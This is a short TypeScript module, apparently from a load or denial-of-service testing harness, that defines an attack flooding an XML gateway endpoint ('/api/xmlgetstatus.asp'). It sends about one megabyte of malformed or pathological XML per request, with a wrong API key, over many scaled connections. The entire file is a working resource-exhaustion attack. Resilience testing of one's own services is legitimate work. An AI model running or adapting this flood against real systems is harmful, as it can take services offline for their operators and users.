import { post, scaled, type Attack } from '../attack.ts'
import { flood } from '../flood.ts'

const begin = '<Svc_Multi_Message><ApiKey>gw_wrong</ApiKey>'
const of = (piece: string) => begin + piece.repeat(Math.floor(1_000_000 / piece.length))
const documents = [
  of('<!--b-->a'),
  of('<a>'),
  of('<![CDATA[]]>'),
  of('&amp;'),
  of(`<a ${Array.from({ length: 500 }, (_, at) => `a${at}="" `).join('')}/>`),
  of('&'),
]

export const malformedXml: Attack = {
  title: 'malformed XML without credentials',
  by: 'xml',
  run: (target) =>
    flood(target, {
      connections: scaled(target, 100),
      text: (connection) => post('/api/xmlgetstatus.asp', '', documents[connection % documents.length] ?? ''),
      answersToText: 1,
    }),
}
